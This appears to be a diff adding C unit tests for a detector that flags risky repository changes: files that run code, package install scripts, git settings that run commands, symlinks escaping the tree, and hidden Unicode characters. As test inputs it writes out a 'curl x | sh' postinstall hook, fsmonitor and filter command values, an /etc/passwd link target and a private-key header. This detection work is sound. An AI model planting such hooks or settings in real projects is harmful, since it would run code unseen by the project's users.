@@ -1,0 +1,209 @@
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <string.h>
+#include <sys/stat.h>
+
+#include "base/auto.h"
+#include "guard/risk.h"
+
+struct sides {
+	const char *old, *now;
+};
+
+static bool read_side(void *arg, bool now, struct buf *to)
+{
+	const struct sides *s = arg;
+	const char *text = now ? s->now : s->old;
+
+	if (!text)
+		return false;
+	buf_add_text(to, text);
+	return true;
+}
+
+static void judge(const char *path, uint32_t old_mode, uint32_t now_mode,
+		  const char *old, const char *now, struct risks *ret)
+{
+	struct sides s = {old, now};
+	struct risk_file f = {
+		.path = path,
+		.old_mode = old_mode,
+		.now_mode = now_mode,
+		.old_size = old ? strlen(old) : 0,
+		.now_size = now ? strlen(now) : 0,
+		.read = read_side,
+		.arg = &s,
+	};
+
+	risk_judge(&f, ret);
+}
+
+static bool tells(const struct risks *r, const char *text)
+{
+	size_t i;
+
+	for (i = 0; i < r->count; i++)
+		if (strstr(r->items[i].text, text))
+			return true;
+	return false;
+}
+
+#define FILE_MODE (S_IFREG | 0644)
+
+static enum risk_level level_of(const char *path)
+{
+	AUTO(risks) struct risks r = {0};
+
+	judge(path, 0, FILE_MODE, NULL, "x\n", &r);
+	return risks_worst(&r);
+}
+
+static void names_that_run_are_known_at_any_depth(void **state)
+{
+	(void)state;
+	assert_int_equal(level_of(".vscode/tasks.json"), RISK_CRITICAL);
+	assert_int_equal(level_of("sub/.vscode/tasks.json"), RISK_CRITICAL);
+	assert_int_equal(level_of(".git/hooks/pre-commit"), RISK_CRITICAL);
+	assert_int_equal(level_of(".git/modules/a/config"), RISK_CRITICAL);
+	assert_int_equal(level_of(".envrc"), RISK_CRITICAL);
+	assert_int_equal(level_of("CLAUDE.md"), RISK_CRITICAL);
+	assert_int_equal(level_of("Makefile"), RISK_HIGH);
+	assert_int_equal(level_of("lib/rules.mk"), RISK_HIGH);
+	assert_int_equal(level_of(".github/workflows/a.yml"), RISK_HIGH);
+	assert_int_equal(level_of("Dockerfile.dev"), RISK_HIGH);
+	assert_int_equal(level_of("package-lock.json"), RISK_NOTE);
+	assert_int_equal(level_of(".gitignore"), RISK_NOTE);
+}
+
+static void names_that_only_look_alike_are_not(void **state)
+{
+	(void)state;
+	assert_int_equal(level_of("src/main.c"), RISK_NONE);
+	assert_int_equal(level_of("Makefile2"), RISK_NONE);
+	assert_int_equal(level_of("vscode/tasks.json"), RISK_NONE);
+	assert_int_equal(level_of("x.git/hooks/pre-commit"), RISK_NONE);
+	assert_int_equal(level_of(".git/hooks/pre-commit.sample"), RISK_NONE);
+	assert_int_equal(level_of("docs/workflows/a.yml"), RISK_NONE);
+	assert_int_equal(level_of(".github/workflows"), RISK_NONE);
+	assert_int_equal(level_of("a/b/c/d.txt"), RISK_NONE);
+}
+
+static void a_new_script_of_a_package_is_named(void **state)
+{
+	AUTO(risks) struct risks r = {0};
+
+	(void)state;
+	judge("package.json", FILE_MODE, FILE_MODE,
+	      "{\"scripts\": {\"test\": \"jest\"}}",
+	      "{\"scripts\": {\"test\": \"jest\", "
+	      "\"postinstall\": \"curl x | sh\\u001b[2J\"}}",
+	      &r);
+	assert_true(tells(&r, "script postinstall: curl x | sh\\x1b[2J"));
+	assert_false(tells(&r, "jest"));
+}
+
+static void a_package_that_is_no_json_is_no_end(void **state)
+{
+	AUTO(risks) struct risks r = {0};
+
+	(void)state;
+	judge("package.json", FILE_MODE, FILE_MODE, "[]", "{\"scripts\": [1]}",
+	      &r);
+	judge("package.json", FILE_MODE, FILE_MODE, "{", "}", &r);
+	assert_int_equal(risks_worst(&r), RISK_HIGH);
+}
+
+static void settings_of_git_that_run_commands_are_named(void **state)
+{
+	AUTO(risks) struct risks r = {0};
+
+	(void)state;
+	judge(".git/config", FILE_MODE, FILE_MODE,
+	      "[core]\n\tbare = false\n\tpager = less\n",
+	      "[core]\n\tbare = true\n\tpager = less\n\tfsmonitor = /tmp/x\n"
+	      "[filter \"f\"]\n\tclean=evil\n",
+	      &r);
+	assert_true(tells(&r, "core.fsmonitor: /tmp/x"));
+	assert_true(tells(&r, "filter \"f\".clean: evil"));
+	assert_false(tells(&r, "pager"));
+	assert_false(tells(&r, "bare"));
+	assert_int_equal(risks_worst(&r), RISK_CRITICAL);
+}
+
+static void links_that_lead_out_are_told(void **state)
+{
+	static const struct {
+		const char *path, *target;
+		bool out;
+	} cases[] = {
+		{"a", "b", false},	    {"a/b", "../c", false},
+		{"a", "../c", true},	    {"a/b", "../../c", true},
+		{"a", "/etc/passwd", true}, {"a", "b/../../c", true},
+		{"a/b/c", "../..", false},
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
+		AUTO(risks) struct risks r = {0};
+
+		judge(cases[i].path, 0, S_IFLNK | 0777, NULL, cases[i].target,
+		      &r);
+		assert_int_equal(tells(&r, "leads out"), cases[i].out);
+	}
+}
+
+static void what_a_file_became_is_told(void **state)
+{
+	AUTO(risks) struct risks r = {0};
+
+	(void)state;
+	judge("a", FILE_MODE, S_IFREG | 0755, "x", "x", &r);
+	assert_true(tells(&r, "may be executed now"));
+	judge("a", FILE_MODE, FILE_MODE, "x", "", &r);
+	assert_true(tells(&r, "is empty now"));
+	judge("a", FILE_MODE, FILE_MODE, "x", "x = 1; // \u202e} {\n", &r);
+	assert_true(tells(&r, "turn text round"));
+	judge("-rf", 0, FILE_MODE, NULL, "x", &r);
+	assert_true(tells(&r, "taken for an option"));
+	judge("a\u200bb", 0, FILE_MODE, NULL, "x", &r);
+	assert_true(tells(&r, "not seen"));
+	judge(".git", S_IFDIR | 0755, 0, NULL, NULL, &r);
+	assert_true(tells(&r, "with all its history"));
+	judge("x/.GIT", 0, S_IFDIR | 0755, NULL, NULL, &r);
+	assert_true(tells(&r, "where case does not count"));
+}
+
+static void the_worst_comes_first(void **state)
+{
+	AUTO(risks) struct risks r = {0};
+	size_t i;
+
+	(void)state;
+	judge(".envrc", 0, S_IFREG | 0777, NULL, "-----BEGIN PRIVATE KEY----\n",
+	      &r);
+	assert_true(r.count >= 3);
+	assert_int_equal(r.items[0].level, RISK_CRITICAL);
+	for (i = 1; i < r.count; i++)
+		assert_true(r.items[i].level <= r.items[i - 1].level);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(names_that_run_are_known_at_any_depth),
+		cmocka_unit_test(names_that_only_look_alike_are_not),
+		cmocka_unit_test(a_new_script_of_a_package_is_named),
+		cmocka_unit_test(a_package_that_is_no_json_is_no_end),
+		cmocka_unit_test(settings_of_git_that_run_commands_are_named),
+		cmocka_unit_test(links_that_lead_out_are_told),
+		cmocka_unit_test(what_a_file_became_is_told),
+		cmocka_unit_test(the_worst_comes_first),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
